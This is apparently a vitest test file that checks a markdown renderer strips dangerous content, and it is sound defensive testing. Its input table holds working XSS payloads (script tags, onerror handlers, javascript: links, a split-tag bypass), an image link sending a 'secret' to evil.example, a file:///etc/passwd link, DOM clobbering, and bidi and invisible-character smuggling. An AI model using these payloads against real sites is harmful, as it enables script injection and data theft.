import { expect, test } from "vitest";
import { strangers } from "./allowed.js";
import { rendered } from "./render.js";

const TEXTS: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "image with a handler": '<img src=x onerror="alert(1)">',
  svg: "<svg onload=alert(1)><use href='data:image/svg+xml,x'/></svg>",
  style: "<style>*{display:none}</style>",
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "script as a link": "[click](javascript:alert(1))",
  "script in disguise": "[click](JaVaScRiPt&#58;alert(1)) [tab](java\tscript:alert(1)) <javascript:alert(1)>",
  "data as a link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](about:blank) [e](intent://x)",
  "a picture that tells": "![x](https://evil.example/?q=secret)",
  "a picture that runs": "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
  clobbering: '<form id="body"><input name="attributes"></form>\n\n# body {#x}',
  "attributes in titles": `[a](https://a.example "x\\" onmouseover=alert(1)")`,
  "attributes in languages": '```"><img src=x onerror=alert(1)>\ncode\n```',
  "styles in tables": "|a|\n|:-:|\n|<b style='color:red'>|",
  formulas: "\\(\\href{javascript:alert(1)}{x}\\) $$\\htmlClass{a}{b}$$ $\\includegraphics{https://e.example}$",
  "half of everything": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "control characters": "a\u0000b\u001b[31mred\u0007",
  "turned round": "abc\u202edcba\u2066x\u2069 `rm \u202e fr`",
  smuggled: "hi\u{e0041}\u{e0042} zero\u200bwidth",
};

test.each(Object.entries(TEXTS))("%s becomes nothing but what is allowed", (_, text) => {
  for (const host of [rendered(text), rendered(...text)]) {
    expect(strangers(host)).toEqual([]);
    expect(host.querySelectorAll("img, script, style, svg, iframe, form, input").length).toBe(0);
  }
});

test("markup is shown as the text that it is", () => {
  expect(rendered("<b>x</b>").textContent).toBe("<b>x</b>");
});

test("a picture is a link to it, with its host and what it shows", () => {
  const link = rendered("![a cat](https://pics.example/cat.png)").querySelector("a");
  expect(link?.textContent).toBe("Image from pics.example (a cat)");
  expect(link?.getAttribute("rel")).toContain("noreferrer");
});

test.each([
  ["[bank.example](https://evil.example/)", "evil.example"],
  ["[https://bank.example/login](https://evil.example/)", "evil.example"],
  ["[click](https://xn--80ak6aa92e.com/)", "xn--80ak6aa92e.com"],
  ["[click](https://bank.example@evil.example/)", "evil.example"],
  ["[bank.example](https://www.bank.example/a)", null],
  ["[click here](https://evil.example/)", null],
  ["https://example.org/a", null],
])("%s asks about %s", (text, host) => {
  expect(rendered(text).querySelector("a")?.getAttribute("data-host")).toBe(host);
});

test("what cannot be seen is shown in code, and left out of the words of links", () => {
  expect(rendered("`a\u202eb`").querySelector("code")?.textContent).toBe("aU+202Eb");
  expect(rendered("[a\u202eb](https://e.example)").querySelector("a")?.textContent).toBe("ab");
  expect(rendered("a\u001bb").textContent).toBe("a␛b");
});
